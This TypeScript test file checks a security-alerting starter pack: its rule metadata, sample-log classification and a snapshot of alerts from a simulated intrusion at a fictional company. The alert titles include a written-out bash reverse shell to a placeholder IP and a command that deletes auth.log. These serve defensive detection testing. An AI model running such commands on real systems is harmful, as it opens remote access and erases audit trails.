import { globSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { sampleFiles } from '../scripts/samples/sample-files.ts';
import { selectLogTypes } from '../src/config/data-sources.ts';
import type { Alert } from '../src/domain/alert.ts';
import { severities } from '../src/domain/severity.ts';
import { families, rulesPage } from '../scripts/docs/rules-page.ts';
import { judgedEvents } from './starter-content/judged-events.ts';
import {
  linesOf,
  openStarter,
  readText,
  root,
  runPayload,
  type Starter,
  starterEvents,
  type TestEvent,
} from './starter-content/starter.ts';

let starter: Starter;

beforeAll(async () => {
  starter = await openStarter();
});

describe('the starter configuration', () => {
  test('loads with nothing to say but that the account has to be filled in before a deployment', () => {
    const found = starter.findings.map(({ level, path }) => `${level} ${path}`);

    expect(found).toEqual(['build account.aws_account_id', 'build account.prefix']);
  });

  test('offers every log type through a source of its own and through the one for samples', () => {
    const sources = starter.config.clusters.flatMap(({ dataSources }) => dataSources);
    const reachable = (wanted: (resource: string) => boolean) =>
      new Set(
        sources
          .filter(({ resource }) => wanted(resource))
          .flatMap(({ logs }) => selectLogTypes(starter.config.logTypes, logs))
          .map(({ name }) => name),
      );
    const all = starter.config.logTypes.map(({ name }) => name);

    expect(all.filter((name) => !reachable(() => true).has(name))).toEqual([]);
    // Fleet's records look like those of osquery, and queries' results come from inside.
    expect(
      all.filter((name) => !reachable((resource) => resource === 'samples').has(name)),
    ).toEqual(['fleet:results']);
  });

  test('describes every log type', () => {
    const silent = starter.config.logTypes.filter(({ description }) => !description);

    expect(silent.map(({ name }) => name)).toEqual([]);
  });
});

describe('the starter rules', () => {
  test('say what a responder needs: title, runbook, technique, reference, known false alarms', () => {
    const incomplete = starter.rules.filter(
      ({ title, runbook, attack, references, falsePositives, author, description, outputs }) =>
        title === undefined ||
        typeof runbook !== 'string' ||
        runbook.length < 60 ||
        description.length < 10 ||
        author !== 'StreamAlert' ||
        [attack, references, falsePositives, outputs].some((list) => list.length === 0),
    );

    expect(incomplete.map(({ name }) => name)).toEqual([]);
    expect(starter.rules.length).toBeGreaterThan(170);
  });

  test('name techniques and references in the form that readers can follow', () => {
    const unreadable = starter.rules.flatMap(({ name, attack, references }) => [
      ...attack.filter((id) => !/^TA\d{4}(:T\d{4}(\.\d{3})?)?$/.test(id)).map((id) => [name, id]),
      ...references.filter((url) => !/^https:\/\/\S+$/.test(url)).map((url) => [name, url]),
    ]);

    expect(unreadable).toEqual([]);
  });

  test('have an event that alerts and two near misses, which are of log types that they read', () => {
    const byFile = Map.groupBy(starterEvents(starter), ({ file }) => file);
    const thin = starter.rules.filter(({ name, logs }) => {
      const isNearMiss = ({ log, rules }: TestEvent): boolean =>
        rules?.includes(name) === false && (logs === undefined || logs.includes(log));
      return ![...byFile.values()].some(
        (events) =>
          events.some(({ rules }) => rules?.includes(name)) &&
          events.filter(isNearMiss).length >= 2,
      );
    });

    expect(thin.map(({ name }) => name)).toEqual([]);
  });

  test('alert on exactly the events that say so', async () => {
    const { passed, failures } = await judgedEvents({
      configDir: join(root, 'conf'),
      eventsDir: join(root, 'rules'),
    });

    expect(failures).toEqual([]);
    expect(passed).toBe(starterEvents(starter).length);
  });

  test('are all on the page of rules, which is fresh', () => {
    const page = rulesPage(starter.rules, join(root, 'rules'));
    const folders = globSync('*', { cwd: join(root, 'rules') }).toSorted();

    expect(readText(join(root, 'docs/starter-rules.md'))).toBe(page);
    expect(starter.rules.filter(({ name }) => !page.includes(`| \`${name}\` |`))).toEqual([]);
    expect(folders).toEqual(Object.keys(families));
  });
});

describe('the samples', () => {
  test('are what the script writes', () => {
    for (const { path, text } of sampleFiles) {
      expect(readText(join(root, 'samples', path)) === text, `${path}: run make-samples.ts`).toBe(
        true,
      );
    }
    const found = globSync(join(root, 'samples/*/*'));
    expect(found.length).toBe(sampleFiles.length);
  });

  test('classify, but for the six records that are there for the quarantine', async () => {
    const counts: Record<string, number> = {};
    for (const { path, text } of sampleFiles) {
      for (const payload of path.endsWith('.json.gz') ? [text] : linesOf(text)) {
        const { logType = 'quarantined', records, invalid } = await runPayload(payload, starter);
        counts[logType] = (counts[logType] ?? 0) + records;
        expect(invalid).toBe(0);
      }
    }

    expect(counts).toEqual({
      'cloudtrail:events': 1717,
      'github:audit': 135,
      'linux:auth': 363,
      'okta:logevents': 98,
      'osquery:differential': 266,
      'syslog:rfc3164': 140,
      'vpcflow:header': 1,
      'vpcflow:no_data': 14,
      'vpcflow:v2': 1003,
      quarantined: 6,
    });
  });

  test('raise the alerts that tell the story, in its order', async () => {
    const alerts: Alert[] = [];
    for (const { path, text } of sampleFiles) {
      for (const payload of path.endsWith('.json.gz') ? [text] : linesOf(text)) {
        alerts.push(...(await runPayload(payload, starter)).alerts);
      }
    }
    const told = alerts
      .toSorted((a, b) => a.eventTime - b.eventTime)
      .map(({ eventTime, severity, ruleName, title }) => {
        const time = new Date(eventTime).toISOString().slice(11, 16);
        return `${time} ${severity} ${ruleName}: ${title}`;
      });

    expect(told).toMatchInlineSnapshot(`
      [
        "09:31 info ssh_login_activity: mei signed in to bastion-01 from 198.51.100.24",
        "10:51 high okta_phishing_attempt_declined: mei.lin@northwind.example was led to a phishing site; FastPass declined",
        "11:03 low okta_push_denied_by_user: dana.reyes@northwind.example denied a push for a sign-in from 203.0.113.91",
        "11:09 high okta_mfa_factors_reset: All MFA factors of dana.reyes@northwind.example reset by omar.haddad@northwind.example from 198.51.100.31",
        "11:12 medium okta_sign_in_through_anonymizer: dana.reyes@northwind.example signed in through a proxy of example hosting (203.0.113.91)",
        "11:24 low aws_secrets_read_in_batches: dana.reyes@northwind.example as PlatformAdmin asked for secrets in batches from 203.0.113.91",
        "11:42 critical cloudtrail_root_account_usage: Root signed in to 111122223333 from 203.0.113.66",
        "11:43 low aws_iam_user_created: IAM user backup-svc created in 111122223333 by root from 203.0.113.66",
        "11:43 high cloudtrail_root_account_usage: Root called CreateUser in 111122223333 from 203.0.113.66",
        "11:43 high aws_iam_admin_policy_attached: backup-svc now has AdministratorAccess, given by root",
        "11:43 high cloudtrail_root_account_usage: Root called AttachUserPolicy in 111122223333 from 203.0.113.66",
        "11:43 medium aws_iam_access_key_for_another_user: root made an access key for backup-svc from 203.0.113.66",
        "11:43 high cloudtrail_root_account_usage: Root called CreateAccessKey in 111122223333 from 203.0.113.66",
        "11:44 high cloudtrail_critical_api_calls: backup-svc stopped trail org-trail",
        "11:49 high aws_security_group_open_to_world: backup-svc opened port 22 of sg-0a52b7c9d1e3f4680 to the Internet",
        "11:52 high cloudtrail_critical_api_calls: backup-svc allowed public access to bucket northwind-customer-exports",
        "11:52 high cloudtrail_public_resources: backup-svc made s3 northwind-customer-exports public",
        "11:54 low aws_ssm_shell_command_sent: backup-svc sent AWS-RunShellScript from 203.0.113.66",
        "11:54 medium osquery_authorized_key_added: SSH key added to /home/ubuntu/.ssh/authorized_keys on web-03",
        "11:55 medium vpcflow_admin_port_from_internet: 203.0.113.66 reached port 22 of 10.20.3.7",
        "11:55 info ssh_login_activity: ubuntu signed in to web-03 from 203.0.113.66",
        "11:56 medium osquery_shell_history_cleared: Shell history cleared on web-03 by 1000",
        "11:56 critical osquery_reverse_shell: Reverse shell on web-03: bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        "11:56 medium vpcflow_outbound_to_shell_port: 10.20.3.7 connected to 203.0.113.66 port 4444",
        "12:10 high vpcflow_large_outbound_transfer: 10.20.3.7 sent 2234 MB to 203.0.113.66",
        "12:22 medium github_deploy_key_added: dana-reyes added deploy key "backup" to northwind/infra",
        "12:26 high github_repository_made_public: dana-reyes made repository northwind/storefront public",
        "12:40 high linux_log_tampering: ubuntu on web-03: /usr/bin/rm -f /var/log/auth.log",
        "12:55 high okta_suspicious_activity_reported: dana.reyes@northwind.example reports activity that was not theirs",
      ]
    `);
    expect(new Set(alerts.map(({ severity }) => severity))).toEqual(new Set(severities));
  });
});
